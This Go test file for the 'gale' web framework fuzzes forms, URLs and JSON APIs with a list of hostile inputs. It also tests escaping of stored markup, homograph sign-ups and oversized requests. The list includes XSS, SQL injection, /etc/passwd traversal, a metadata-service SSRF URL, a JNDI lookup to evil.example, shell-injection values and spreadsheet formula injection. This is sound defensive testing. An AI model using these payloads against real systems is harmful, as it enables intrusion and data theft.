package attack_test

import (
	"cmp"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/galeweb/gale/cmd/gale/reference/handlers"
	"github.com/galeweb/gale/cmd/gale/reference/models"
)

// nasty is what a field may be sent. What is markup begins with the marks that
// the kit looks for in every page.
var nasty = [...]string{
	markup, attribute + `x onfocus=alert(1) autofocus="`, "'" + attribute + "'><script>" + markup + "</script>", "javascript:" + markup, "{{" + markup + "}}${7*7}<%=7*7%>",
	"' OR '1'='1", "x'; DROP TABLE users; --", `" OR 1=1 --`, "x' UNION SELECT password_hash FROM users --", "%' ESCAPE '\\", "$1", "?",
	"\x00", "a\x00b", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\u202egpj.exe", "\u2066abc\u2069", "\ufeffx", "аdа", "ⓐⓓⓐ", "ada\u200b", "ＡＤＡ", "e\u0301" + strings.Repeat("\u0301", 200), "👩‍👩‍👧‍👦", "\U0010ffff",
	"\r\n" + header + ": yes", "\t", "\x1b[31m", strings.Repeat("a", 10<<10), strings.Repeat("€", 10<<10), "", " ", "-1", "0", "9223372036854775808", "1e999", "NaN", "null", "true", "[]", "{}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "http://169.254.169.254/", "%s%s%s%n", "${jndi:ldap://evil.example/a}", "|id", "`id`", "$(id)",
	"=cmd|'/c calc'!A1", "2026-02-30", "0001-01-01", "admin", "ada", "ada@example.com",
}

// Every field of every form that the pages have, with everything in it: no
// answer is relay's failure, and nothing comes back as it was sent. The kit
// looks at each answer.
func TestEveryField(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		p, scapegoat := s.person("mallory"), s.person("scapegoat")
		s.setRole(p, "admin")
		p.enroll()
		p.key("sensor", "packets.read", "packets.send")
		p.passkey()
		elsewhere, app := p.half(), p.register() // for the page of the second factor, and those of an app
		all := p.crawl()
		asked := p.get(app.ask()).leads().RequestURI()
		for _, f := range formsOf(asked, p.get(asked).is(http.StatusOK).body) {
			all.forms[f.route()] = f
		}
		maps.Copy(all.forms, s.visitor().crawl().forms)
		for _, f := range formsOf("/sign-in/second", elsewhere.get("/sign-in/second").body) {
			all.forms[f.route()] = f
		}
		for path := range map[string]string{"/profile/apps/new": "", "/confirm": ""} {
			for _, f := range formsOf(path, p.get(path).is(http.StatusOK).body) {
				all.forms[f.route()] = f
			}
		}
		for _, f := range s.byMail(p) {
			all.forms[f.route()] = f
		}
		// What a page has for others: of who has no second factor, and of the first.
		for route, names := range map[string][]string{"POST /confirm": {"email", "password"}, "POST /sign-up": {"password", "setup"}} {
			f, found := all.forms[route]
			if !found {
				t.Errorf("no page has the form of %s: %v", route, slices.Sorted(maps.Keys(all.forms)))
			}
			for _, name := range names {
				f.fields = append(f.fields, field{name: name, kind: "text"})
			}
			all.forms[route] = f
		}
		// Last what ends sessions, the account or the password, and what uses up guesses.
		routes := slices.SortedFunc(maps.Keys(all.forms), func(a, b string) int {
			late := func(route string) int {
				switch {
				case strings.Contains(route, "sign-out"):
					return 4
				case all.forms[route].has("old"), strings.HasSuffix(route, "/profile/name"): // the account goes by its name
					return 3
				case strings.Contains(route, "delete"):
					return 2
				case all.forms[route].has("password"), strings.Contains(route, "revoke"), strings.Contains(route, "remove"):
					return 1
				}
				return 0
			}
			return late(a) - late(b)
		})
		counts := map[int]int{}
		goat := scapegoat.id(p)
		for i := range 2 * len(routes) {
			route, passwords := routes[i%len(routes)], i >= len(routes) // guesses last of all
			f := all.forms[route]
			if strings.HasPrefix(f.action, "/admin/users/") { // of whoever is first in the list
				f.action = ids.ReplaceAllString(f.action, "/"+goat+"$1")
			}
			for _, in := range f.fields {
				if (in.kind == "password") != passwords {
					continue
				}
				sender := p.visitor
				if strings.HasPrefix(f.action, "/sign-in/second") {
					sender = elsewhere.visitor
				} else if f.has("password") && !strings.HasPrefix(f.action, "/profile") && !strings.HasPrefix(f.action, "/confirm") {
					sender = s.visitor() // whose guesses are another's
				}
				for i, evil := range nasty {
					// A hash each: these fields are read before it, or are not kept.
					if (in.kind == "password" || f.has("password") && (in.kind == "hidden" || in.kind == "checkbox")) && i%6 != 0 {
						continue
					}
					if i%12 == 0 {
						sender = sender.moved()
					}
					values := f.filled(p)
					values.Set(in.name, evil)
					if f.method == http.MethodGet {
						counts[sender.get(f.action+"?"+values.Encode()).status]++
						continue
					}
					counts[sender.form(f.action, values).status]++
				}
			}
			if len(f.fields) > 0 {
				p.again()
			}
			if strings.HasSuffix(f.action, "/factor") { // lest other tests' admins must have one
				p.post(f.action, "must", "").is(http.StatusSeeOther)
			}
		}
		// The same in the places of addresses, one of each kind.
		ways := map[string]bool{}
		for path := range all.pages {
			way := form{method: http.MethodGet, action: path}.route()
			if ways[way] {
				continue
			}
			ways[way] = true
			u, err := url.Parse(path)
			if err != nil {
				t.Fatal(err)
			}
			at := u.EscapedPath()
			for i, evil := range nasty {
				if len(evil) > 5000 {
					continue
				}
				if i%4 == len(path)%4 {
					p.get(at + "/" + url.PathEscape(evil))
					p.get(at[:strings.LastIndexByte(at, '/')+1] + url.PathEscape(evil))
				}
				for name := range u.Query() {
					q := u.Query()
					q.Set(name, evil)
					p.get(at + "?" + q.Encode())
				}
			}
		}
		// Every place in an address, whatever the method, and a field that is none.
		c := p.moved()
		for k, pattern := range table.patterns {
			method, path, ok := strings.Cut(pattern, " ")
			if !ok || method == http.MethodGet && !wildcard.MatchString(path) || strings.HasSuffix(path, "/sign-out") || path == "/profile/delete" {
				continue
			}
			for i, evil := range nasty {
				if (i+k)%4 == 0 && len(evil) < 5000 {
					to := wildcard.ReplaceAllLiteralString(strings.Replace(path, "{$}", "", 1), url.PathEscape(cmp.Or(evil, " ")))
					counts[c.do(method, to, "application/x-www-form-urlencoded", url.Values{evil: {evil}}.Encode()).status]++
				}
			}
			c = c.moved()
		}
		p.again()
		// Whatever name a handler reads from an address, at every route.
		read := readSource(t)
		names := slices.Sorted(maps.Keys(read.queries))
		for k, pattern := range table.patterns {
			method, path := request(pattern)
			if method != http.MethodGet {
				continue
			}
			for j, name := range names {
				for i, evil := range nasty {
					if (i+j+k)%53 == 0 {
						counts[c.get(path+"?"+name+"="+url.QueryEscape(evil)).status]++
					}
				}
			}
			c = c.moved()
		}
		s.members(p, counts)
		// What no page shows was not found, nor what is in a page and was not followed.
		// (An account elsewhere is none of the default.)
		for _, form := range unread(read.forms, s.sent) {
			t.Errorf("no route was sent the fields %s of a form", form)
		}
		// What is throttled is not looked at.
		if counts[http.StatusTooManyRequests] > counts[http.StatusUnprocessableEntity]/4 {
			t.Errorf("the answers are %v", counts)
		}
		t.Logf("%d forms; %v", len(all.forms), counts)
	})
}

// members sends everything in each member of the JSON that programs and scripts
// send.
func (s *site) members(p *person, counts map[int]int) {
	s.t.Helper()
	channel := p.private()
	c := p.visitor
	for path, names := range map[string][]string{
		"/api/v1/channels": membersOf(reflect.TypeFor[handlers.CreateIn]().Field(0).Type), "/api/v1/channels/" + channel + "/packets": membersOf(reflect.TypeFor[models.Draft]()), "/live?transport=poll": {"sub", "type", "topic"},
		"/passkeys/sign-in/begin": {"any"}, "/passkeys/sign-in/finish": {"state", "credential", "name"}, "/passkeys/confirm/begin": {"any"}, "/passkeys/confirm/finish": {"state", "credential", "name"},
		"/passkeys/register/begin": {"any"}, "/passkeys/register/finish": {"state", "credential", "name"},
	} {
		if len(names) == 0 {
			s.t.Errorf("%s takes nothing", path)
		}
		for _, name := range names {
			c = c.moved()
			for i, evil := range nasty {
				whole := map[string]any{"kind": "k", "payload": map[string]any{}, "name": named("c"), "title": "x"}
				if strings.HasSuffix(path, "/packets") {
					delete(whole, "name")
					delete(whole, "title")
				} else {
					delete(whole, "kind")
					delete(whole, "payload")
				}
				for _, value := range []any{evil, []string{evil}, map[string]string{evil: evil}} {
					whole[name] = value
					raw, err := json.Marshal(whole)
					if err != nil {
						s.t.Fatal(err)
					}
					if strings.HasPrefix(path, "/api/") || i%5 == 0 {
						counts[c.do(http.MethodPost, path, "application/json", string(raw)).status]++
					}
				}
			}
		}
	}
}

// byMail returns the forms to which mails lead: of a sign-up, a reset, an
// invitation, and both ends of a change of address. p is an admin.
func (s *site) byMail(p *person) (all []form) {
	s.t.Helper()
	name, guest, other := named("mailed"), named("guest"), s.person("other")
	s.visitor().post("/sign-up", "name", name, "email", name+"@example.com").is(http.StatusOK)
	s.visitor().post("/reset", "email", other.email).is(http.StatusOK)
	p.post("/admin/users/invitations", "email", guest+"@example.com", "role", "viewer").is(http.StatusSeeOther)
	next := named("next") + "@example.com"
	other.post("/profile/email", "email", next, "password", password).is(http.StatusSeeOther)
	for path, token := range map[string]string{
		"/sign-up/confirm": s.token(name+"@example.com", confirmSubject), "/reset/confirm": s.token(other.email, resetSubject), "/invitation": s.token(guest+"@example.com", "You are invited"),
		"/email/new": s.token(next, "Confirm your new mail address"), "/email/old": s.token(other.email, "Your mail address is to be changed"),
	} {
		all = append(all, formsOf(path, s.visitor().get(path+"?token="+token).is(http.StatusOK).body)...)
	}
	// The first account's own: ada's address is unproved.
	return append(all, form{page: "/proof", method: http.MethodPost, action: "/proof", fields: []field{{name: "token", kind: "hidden", value: strings.Repeat("A", 43)}}})
}

// again signs in once more when the session has ended, as it may by a form that
// was sent with something plausible.
func (p *person) again() {
	p.s.t.Helper()
	if !p.isIn() {
		p.signIn(password)
	}
}

// What is taken comes back escaped, on every page and in every format.
func TestStoredMarkup(t *testing.T) {
	onEach(t, func(t *testing.T, s *site) {
		p := s.operator("mallory")
		channel := named("evil")
		title := markup + attribute + `x" '><img src=x onerror=alert(1)>{{.}}`
		p.post("/channels", "name", channel, "title", title, "public", "true").is(http.StatusSeeOther)
		key := s.visitor().with("Authorization", "Bearer "+p.key("sensor", "packets.read", "packets.send")).with("Sec-Fetch-Site", "")
		payload, err := json.Marshal(map[string]any{"kind": "k", "payload": map[string]string{title: title + "</script></code>"}})
		if err != nil {
			t.Fatal(err)
		}
		path := "/api/v1/channels/" + channel + "/packets"
		key.do(http.MethodPost, path, "application/json", string(payload)).is(http.StatusCreated)
		// Names of apps may be anything that can be shown.
		page := p.post("/profile/apps", "name", title[:40]).is(http.StatusOK)
		page.find(`(/profile/apps/[^/"]+/confirm)`)
		// And browsers say of themselves what they want.
		s.visitor().with("User-Agent", title).post("/sign-in", "email", p.email, "password", password).is(http.StatusSeeOther)
		s.visitor().with("User-Agent", title).post("/sign-in", "email", p.email, "password", "wrong one here").is(http.StatusUnprocessableEntity)
		seen := 0
		for _, a := range p.crawl().pages {
			if strings.Contains(a.body, mark) && strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
				seen++
			}
		}
		if seen < 3 {
			t.Errorf("only %d pages show what was sent", seen)
		}
		ada := s.admin()
		for _, path := range []string{"/admin/audit", "/admin/users"} {
			ada.get(path).is(http.StatusOK)
		}
		for _, path := range []string{path, path + ".ndjson", "/api/v1/channels", "/profile/export", "/admin/audit.ndjson"} {
			a := ada.get(path).is(http.StatusOK)
			if kind := a.header.Get("Content-Type"); !strings.HasPrefix(kind, "application/") {
				t.Errorf("%s is %s, which a browser may take for a page", path, kind)
			}
		}
	})
}

// Names that look like another's, to people or to databases, are not taken.
func TestHomographs(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		p := s.person("victim")
		for _, name := range []string{strings.ToUpper(p.name), p.name + " ", " " + p.name, p.name + "\u200b", strings.Replace(p.name, "i", "і", 1), strings.Replace(p.name, "i", "ı", 1), "ａda", "аda", "ada\u0301", "\u202eada", p.name + "\x00"} {
			a := s.visitor().post("/sign-up", "name", name, "email", named("x")+"@example.com")
			if a.status == http.StatusOK {
				t.Errorf("%q can be had", name)
			}
		}
		// Addresses that some compare as one, and others as two: a link to the account
		// goes to its own address alone, never to the one that was typed.
		alike := []string{strings.Replace(p.email, "i", "ı", 1), strings.Replace(p.email, "i", "İ", 1), strings.Replace(p.email, "e", "ｅ", 1), p.email + "\u200b", strings.Replace(p.email, "example", "exаmple", 1)}
		for _, email := range alike {
			s.visitor().post("/reset", "email", email).is(http.StatusOK, http.StatusUnprocessableEntity)
			s.visitor().post("/sign-up", "name", named("x"), "email", email).is(http.StatusOK, http.StatusUnprocessableEntity)
		}
		s.settled()
		for _, l := range s.letters() {
			if slices.Contains(alike, l.to) && l.subject != confirmSubject {
				t.Errorf("%s is sent %q", l.to, l.subject)
			}
		}
	})
}

// Bodies that are too large, deep or many: refused, and soon.
func TestOversize(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		p := s.operator("mallory")
		big := strings.Repeat("a", 12<<20)
		for _, path := range []string{"/sign-in", "/profile/name", "/channels"} {
			p.do(http.MethodPost, path, "application/x-www-form-urlencoded", "name="+big).is(http.StatusRequestEntityTooLarge)
			p.do(http.MethodPost, path, "application/x-www-form-urlencoded", strings.Repeat("a=b&", 100_000)).is(http.StatusUnprocessableEntity, http.StatusBadRequest, http.StatusRequestEntityTooLarge)
			p.do(http.MethodPost, path, "multipart/form-data; boundary=x", strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n", 5000)+"--x--\r\n").is(http.StatusUnprocessableEntity, http.StatusBadRequest)
			p.do(http.MethodPost, path, "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"name\"; filename=\"../../x\"\r\n\r\nb\r\n--x--\r\n").is(http.StatusUnprocessableEntity, http.StatusBadRequest)
			p.do(http.MethodPost, path, "multipart/form-data; boundary="+strings.Repeat("x", 5000), "x").is(http.StatusBadRequest, http.StatusUnsupportedMediaType, http.StatusUnprocessableEntity)
		}
		for _, body := range []string{
			strings.Repeat("[", 200_000), strings.Repeat(`{"a":`, 200_000), `{"name":"` + big + `"}`, `{"name":` + strings.Repeat("9", 500_000) + `}`, "[" + strings.Repeat("{},", 200_000) + "{}]",
			`{"name":"a","name":"b","title":"x","public":true}`, "\xff", `{"name":"\ud800","title":"x","public":true}`, `{"name":"a","title":"\u0000","public":true}`,
		} {
			for _, path := range []string{"/api/v1/channels", "/api/v1/channels/none/packets", "/passkeys/sign-in/finish", "/passkeys/register/begin"} {
				a := p.do(http.MethodPost, path, "application/json", body)
				if a.status < 400 && path != "/passkeys/register/begin" {
					t.Errorf("%s with %.40q: %d", path, body, a.status)
				}
			}
		}
		p.get("/"+strings.Repeat("a", 100_000)).is(http.StatusRequestURITooLong, http.StatusBadRequest, http.StatusRequestHeaderFieldsTooLarge, http.StatusNotFound)
		p.get("/?"+strings.Repeat("a=b&", 20_000)).is(http.StatusOK, http.StatusRequestURITooLong, http.StatusBadRequest, http.StatusRequestHeaderFieldsTooLarge)
		_, _ = p.with("X-Big", strings.Repeat("a", 2<<20)).try(http.MethodGet, "/", "", "") // closed, or refused
		if !p.isIn() {
			t.Error("the session has ended")
		}
	})
}
